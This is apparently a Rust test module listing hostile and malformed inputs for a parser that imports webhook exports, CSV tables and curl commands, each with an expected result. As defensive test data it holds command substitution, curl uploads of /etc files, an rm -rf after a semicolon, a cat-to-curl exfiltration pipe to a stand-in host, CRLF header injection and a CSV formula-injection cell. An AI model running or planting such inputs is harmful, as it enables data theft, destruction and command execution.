//! Hostile files in the manner of single tools: exports, tables, commands.

use super::cases::{
    Case,
    Outcome::{self, Beside, Inert, Noted, Problem},
};

fn table(cases: Vec<(&'static str, &str, Outcome)>) -> Vec<Case> {
    cases.into_iter().map(|(name, file, outcome)| (name, file.as_bytes().to_vec(), outcome)).collect()
}

pub(crate) fn of_exports() -> Vec<Case> {
    table(vec![
        (
            "a payload of null",
            r#"{"guid":"","request":{"headers":{},"payload":null}}"#,
            Problem("no payload"),
        ),
        (
            "headers of a delivery that are a number",
            r#"{"request":{"headers":1,"payload":{}}}"#,
            Problem("headers are neither"),
        ),
        (
            "a payload that holds half a surrogate pair",
            r#"{"request":{"headers":{},"payload":{"a":"\ud800","b":"\uDC00"}}}"#,
            Inert,
        ),
        (
            "a payload text of half a surrogate pair",
            r#"{"request":{"headers":{},"payload":"\ud800"}}"#,
            Problem("UTF-8"),
        ),
        (
            "an event of Nevo without data",
            r#"{"schema":"nevo.event.v1","data":"zq9mark"}"#,
            Problem("not an object"),
        ),
        (
            "an event of Nevo with bad base64",
            r#"{"schema":"nevo.event.v1","data":{"body_raw_b64":"zq9mark*"}}"#,
            Problem("not base64"),
        ),
        (
            "an event of Nevo whose size is a lie",
            r#"{"schema":"nevo.event.v1","data":{"body_raw_b64":"YQ==","body_size_bytes":-9}}"#,
            Inert,
        ),
        (
            "a time of Nevo that is a list",
            r#"{"schema":"nevo.event.v1","created_at":[],"data":{"body_raw_b64":""}}"#,
            Noted("time of arrival"),
        ),
        (
            "webhook.site's content that is a list",
            r#"{"uuid":"","content":["zq9mark"],"headers":{}}"#,
            Problem("content is not a text"),
        ),
        (
            "webhook.site's e-mail",
            r#"{"uuid":"","type":"email","content":"zq9mark"}"#,
            Problem("no HTTP request"),
        ),
        (
            "webhook.site's body that is not there",
            r#"{"uuid":"","content":"","size":9,"headers":{}}"#,
            Noted("does not show it"),
        ),
        (
            "headers in headers",
            r#"{"uuid":"","content":"","headers":{"a":[["zq9mark"]]}}"#,
            Problem("a header is neither"),
        ),
    ])
}

pub(crate) fn of_further_exports() -> Vec<Case> {
    table(vec![
        (
            "a data_string that is an object",
            r#"{"data_string":{"zq9mark":1},"headers":{}}"#,
            Problem("data_string is not a text"),
        ),
        (
            "Hookdeck's body too large for the export",
            r#"{"data":{"headers":{},"body":"x","is_large_payload":true}}"#,
            Problem("too large"),
        ),
        (
            "headers of Hookdeck as a text that is no JSON",
            r#"{"data_string":"","headers":"zq9mark"}"#,
            Problem("headers are neither"),
        ),
        (
            "a Lambda event whose base64 is none",
            r#"{"httpMethod":"POST","isBase64Encoded":true,"body":"zq9mark*"}"#,
            Problem("not base64"),
        ),
        (
            "a Lambda flag that is a text",
            r#"{"httpMethod":"POST","isBase64Encoded":"true","body":""}"#,
            Problem("neither true nor false"),
        ),
        (
            "a Lambda body that is an object",
            r#"{"httpMethod":"POST","body":{"zq9mark":1}}"#,
            Problem("body is not a text"),
        ),
        (
            "a Lambda event of a time beyond time",
            r#"{"rawPath":"/","requestContext":{"timeEpoch":9223372036854775807},"body":""}"#,
            Inert,
        ),
        ("a Lambda context that is a list", r#"{"requestContext":[],"body":""}"#, Problem("not an object")),
        (
            "line ends in a Lambda host",
            r#"{"httpMethod":"POST","headers":{"Host":"h\r\nzq9mark"},"path":"/","body":""}"#,
            Inert,
        ),
        (
            "a Postman body from a file",
            r#"{"item":[{"request":{"url":"/","body":{"mode":"file","file":{"src":"/etc/zq9mark"}}}}]}"#,
            Problem("not read here"),
        ),
        ("a Postman folder that is empty", r#"{"item":[]}"#, Problem("empty")),
        (
            "GitHub's list without requests",
            r#"[{"guid":"zq9mark","delivered_at":"2026-01-01T00:00:00Z"}]"#,
            Problem("export the delivery"),
        ),
        (
            "a table with a formula",
            "uuid,content,headers\n=1+1,=cmd|'/c calc'!A1,\"{\"\"@SUM(1)\"\":\"\"+1\"\"}\"\n",
            Inert,
        ),
        ("a table with NULs", "uuid,content,headers\n\0,\0,{}\n", Inert),
        ("a table with an open quote", "uuid,content,headers\n1,\"zq9mark", Problem("fewer cells")),
        ("a table without rows", "uuid,content,headers\n", Problem("no rows")),
        ("a table whose headers are no JSON", "uuid,content,headers\n1,a,zq9mark\n", Problem("neither JSON")),
    ])
}

pub(crate) fn of_commands() -> Vec<Case> {
    table(vec![
        (
            "a command that would run another",
            "curl http://h.test/$(touch /tmp/zq9mark) -d \"`id`\"",
            Noted("several URLs"),
        ),
        ("a file that would be read", "curl http://h.test -d @/etc/zq9mark", Noted("file that is not part")),
        ("a file of headers", "curl http://h.test -H @/etc/zq9mark", Noted("headers stand in a file")),
        ("a command after a semicolon", "curl http://h.test; rm -rf /zq9mark", Beside(1, "not curl")),
        (
            "a pipe into a command",
            "curl http://h.test\ncat /etc/zq9mark | curl http://h.test -d @-",
            Beside(1, "piped"),
        ),
        ("a quote that never ends", "curl http://h.test -d 'zq9mark", Problem("cut off inside a quote")),
        ("an option that lacks its word", "curl http://h.test -H", Problem("lacks its word")),
        ("no URL", "curl -d zq9mark", Problem("no URL")),
        ("line ends in a header of a command", "curl http://h.test -H $'A: b\\r\\nX-Forged: zq9mark'", Inert),
        ("a NUL and bytes in a command", "curl http://h.test --data-raw $'\\x00\\xff\\400\\ud800'", Inert),
        ("a URL that is a file", "curl file:///etc/zq9mark", Inert),
        ("a command of Windows", "curl ^\"http://h.test/zq9mark^\" ^\n  -H ^\"A: b^\"", Problem("cmd.exe")),
    ])
}
